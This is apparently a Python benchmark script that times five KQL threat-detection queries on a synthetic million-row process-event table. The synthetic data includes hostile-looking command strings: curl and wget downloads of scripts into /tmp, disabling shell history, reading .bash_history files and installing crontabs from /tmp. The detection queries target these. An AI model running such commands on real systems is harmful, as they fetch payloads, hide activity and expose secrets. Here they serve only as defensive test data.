"""Embedded-engine figures on a 1,000,000-row DeviceProcessEvents-like table.

Prints load time, and for five typical detection queries the median latency through
the engine (end to end, and inside the query process: translation, execution, decoding)
against the same query written by hand in DuckDB SQL on a direct connection, plus the
translation time alone. The difference between the first two is the result's trip
between processes.

    python benchmarks/engine_bench.py [--rows 1000000] [--repeat 5]
"""

from __future__ import annotations

import argparse
import datetime as dt
import random
import statistics
import time
from typing import Any

import duckdb

from pytest_ctirealm.engines import EmbeddedEngine
from pytest_ctirealm.engines.execution import translate
from pytest_ctirealm.engines.kql_extensions import register_functions

BINARIES = ["bash", "sh", "curl", "wget", "python3", "cat", "crontab", "apt-get", "find", "ssh"]
COMMANDS = {
    "curl": [
        "curl -fsS https://repo.example.com/health",
        "curl -sSL http://203.0.113.{n}/x.sh -o /tmp/x{n}.sh",
    ],
    "wget": [
        "wget -q https://mirror.example.org/pkg{n}.deb",
        "wget http://198.51.100.{n}/m -O /tmp/.m",
    ],
    "bash": ["bash /opt/app/run.sh", "bash -c 'echo HISTSIZE=0 >> /root/.bashrc'"],
    "cat": ["cat /proc/version", "cat /home/u{n}/.bash_history", "cat /etc/os-release"],
    "crontab": ["crontab -l", "crontab /tmp/job{n}"],
}
QUERIES: list[tuple[str, str, str]] = [
    (
        "download to /tmp",
        "DeviceProcessEvents | where FileName in~ ('curl', 'wget') "
        "and ProcessCommandLine has '/tmp/' | project Timestamp, DeviceName, ProcessCommandLine",
        "SELECT Timestamp, DeviceName, ProcessCommandLine FROM DeviceProcessEvents "
        "WHERE lower(FileName) IN ('curl', 'wget') "
        "AND regexp_matches(ProcessCommandLine, '(?i)(?:^|[^\\pL\\pN])/tmp/')",
    ),
    (
        "history tampering",
        "DeviceProcessEvents | where ProcessCommandLine contains 'HISTSIZE=0' | count",
        "SELECT count(*) FROM DeviceProcessEvents WHERE ProcessCommandLine ILIKE '%HISTSIZE=0%'",
    ),
    (
        "rare parents per host",
        "DeviceProcessEvents | where FileName == 'sh' "
        "| summarize n = count(), parents = dcount(InitiatingProcessFileName) by DeviceName "
        "| where parents > 3",
        "SELECT DeviceName, count(*) AS n, count(DISTINCT InitiatingProcessFileName) AS parents "
        "FROM DeviceProcessEvents WHERE FileName = 'sh' GROUP BY DeviceName "
        "HAVING count(DISTINCT InitiatingProcessFileName) > 3",
    ),
    (
        "hourly crontab from /tmp",
        "DeviceProcessEvents | where FileName == 'crontab' "
        "and ProcessCommandLine startswith 'crontab /tmp' "
        "| summarize count() by bin(Timestamp, 1h)",
        "SELECT time_bucket(INTERVAL 1 HOUR, Timestamp) AS Timestamp, count(*) AS count_ "
        "FROM DeviceProcessEvents WHERE FileName = 'crontab' "
        "AND ProcessCommandLine ILIKE 'crontab /tmp%' GROUP BY 1",
    ),
    (
        "secrets in history files",
        "DeviceProcessEvents | where FileName == 'cat' "
        "and ProcessCommandLine endswith '.bash_history' "
        "| extend User = tostring(AdditionalFields.User) | summarize make_set(DeviceName) by User",
        "SELECT AdditionalFields->>'User' AS User, list(DISTINCT DeviceName) AS set_DeviceName "
        "FROM DeviceProcessEvents WHERE FileName = 'cat' "
        "AND ProcessCommandLine ILIKE '%.bash_history' GROUP BY 1",
    ),
]


def make_rows(count: int, seed: int = 1) -> list[dict[str, Any]]:
    rng = random.Random(seed)
    start = dt.datetime(2026, 3, 1)
    rows = []
    for index in range(count):
        name = rng.choice(BINARIES)
        command = rng.choice(COMMANDS.get(name, [f"{name} --version"])).format(n=rng.randrange(250))
        rows.append(
            {
                "Timestamp": start + dt.timedelta(seconds=rng.randrange(30 * 86400)),
                "DeviceName": f"host-{rng.randrange(400):03d}",
                "DeviceId": f"{rng.getrandbits(64):016x}",
                "FileName": name,
                "FolderPath": f"/usr/bin/{name}",
                "ProcessCommandLine": command,
                "InitiatingProcessFileName": rng.choice(BINARIES),
                "AccountName": rng.choice(["root", "alice", "bob", "www-data"]),
                "ProcessId": rng.randrange(100, 65000),
                "ReportId": index,
                "AdditionalFields": {"User": rng.choice(["root", "alice", "bob"])},
            }
        )
    return rows


def median_ms(run: Any, repeat: int) -> float:
    times = []
    for _ in range(repeat):
        started = time.perf_counter()
        run()
        times.append(time.perf_counter() - started)
    return statistics.median(times) * 1000


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rows", type=int, default=1_000_000)
    parser.add_argument("--repeat", type=int, default=5)
    args = parser.parse_args()

    started = time.perf_counter()
    rows = make_rows(args.rows)
    print(f"generated {args.rows:,} rows in {time.perf_counter() - started:.1f} s")

    engine = EmbeddedEngine()
    started = time.perf_counter()
    engine.load_table("DeviceProcessEvents", rows)
    load = time.perf_counter() - started
    print(f"load: {load:.2f} s ({args.rows / load:,.0f} rows/s)")
    del rows
    engine.query("print 1")  # start the query process outside the timings

    register_functions()
    schema = {"DeviceProcessEvents": list(engine.schema("DeviceProcessEvents").column_names)}
    direct = duckdb.connect(str(engine._database), read_only=True)
    print(
        f"\n{'query':26} {'rows':>7} {'engine ms':>10} {'in-proc ms':>11} "
        f"{'hand SQL ms':>12} {'ratio':>6} {'translate ms':>13}"
    )
    for label, kql, sql in QUERIES:
        engine_rows = len(engine.query(kql, max_rows=10**7).rows)
        hand_rows = len(direct.execute(sql).fetchall())
        assert engine_rows == hand_rows, (label, engine_rows, hand_rows)
        inside: list[float] = []
        ours = median_ms(
            lambda kql=kql, inside=inside: inside.append(engine.query(kql, max_rows=10**7).elapsed),
            args.repeat,
        )
        hand = median_ms(lambda sql=sql: direct.execute(sql).fetchall(), args.repeat)
        trans = median_ms(lambda kql=kql: translate(kql, schema, None), args.repeat)
        in_proc = statistics.median(inside) * 1000
        print(
            f"{label:26} {engine_rows:7,} {ours:10.1f} {in_proc:11.1f} {hand:12.1f} "
            f"{ours / hand:6.2f} {trans:13.2f}"
        )
    direct.close()
    engine.close()


if __name__ == "__main__":
    main()
